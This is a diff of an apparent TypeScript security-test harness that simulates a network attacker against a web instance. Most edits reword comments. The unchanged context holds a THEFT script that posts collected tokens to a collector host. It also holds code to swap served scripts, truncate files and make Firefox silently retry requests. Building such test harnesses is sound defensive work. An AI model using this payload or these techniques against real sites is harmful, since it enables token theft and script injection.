@@ -13,40 +13,40 @@ export const THEFT = `(() => {
   void fetch('https://${COLLECTOR}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: tokens }).catch(() => undefined);
 })();`;
 
-/** Closed, also after an interim response, reset, or answered by something that isn't HTTP, or not even TLS. */
+/** The connection is closed, also after an interim response, or reset; or the answer isn't HTTP, or not even TLS. */
 export const ENDINGS = ["close", "continue", "reset", "no-http", "no-tls"] as const;
 export type Ending = (typeof ENDINGS)[number];
 
 /**
- * Ways to make Firefox retry a request silently, over another connection: 421, 408 after a second, HTTP/2's "only over
- * HTTP/1.1", and over HTTP/2 also 408 at once and "not processed". `leaves` ends the whole session afterward.
+ * Ways to make Firefox retry a request silently over another connection: 421, 408 after a second, HTTP/2's
+ * `HTTP_1_1_REQUIRED`. Over HTTP/2 also 408 at once and `REFUSED_STREAM`. `leaves` ends the whole session afterward.
  */
 export type Rejection =
   "misdirected" | "timed-out" | "http-1.1-only" | "http-1.1-only, leaves" | "timed-out, leaves" | "refused, leaves";
 export type Answer = "answer" | Rejection | Ending;
 
-/** What the attacker puts into the answers. */
+/** The attacker's changes to the answers. */
 export interface Additions {
-  /** What is added to each answer. */
+  /** Headers that the attacker adds to each answer. */
   readonly headers?: Readonly<Record<string, string>>;
   /** Scripts that the attacker answers with instead of the instance's files, by path. */
   readonly scripts?: Readonly<Record<string, string>>;
-  /** Files that the attacker cuts after the beginning: the length that the answer names, by path. */
+  /** Files that the attacker cuts off early: the length that the answer's header gives, by path. */
   readonly cutAt?: Readonly<Record<string, number>>;
 }
 
-/** What the attacker has taken, below TLS, by the browser's port. */
+/** The connections that the attacker has taken, below TLS, by the browser's port. */
 type Taken = ReadonlyMap<number | undefined, Socket>;
 
 const SCRIPT = { "Content-Type": "text/javascript" };
 
-/** Over HTTP/1.1, the connection is just ended. */
+/** Over HTTP/1.1, this only ends the connection. */
 const closeStream = (response: ServerResponse, code: number): void => {
   if (response.req.httpVersionMajor === 2) (response as unknown as Http2ServerResponse).stream.close(code);
   else response.destroy();
 };
 
-/** Ends an HTTP/2 session when the last frame has gone. */
+/** Ends an HTTP/2 session after its last frame has left. */
 function leave(response: ServerResponse): void {
   const { session } = (response as unknown as Http2ServerResponse).stream;
   setTimeout(() => {
@@ -74,7 +74,7 @@ export function respond(
   if (isHttp2 && answer.endsWith("leaves")) leave(response);
 }
 
-/** Answers as the instance does, with what the attacker adds. */
+/** Answers as the instance does, with the attacker's additions. */
 function answerInPlace(
   request: IncomingMessage,
   response: ServerResponse,
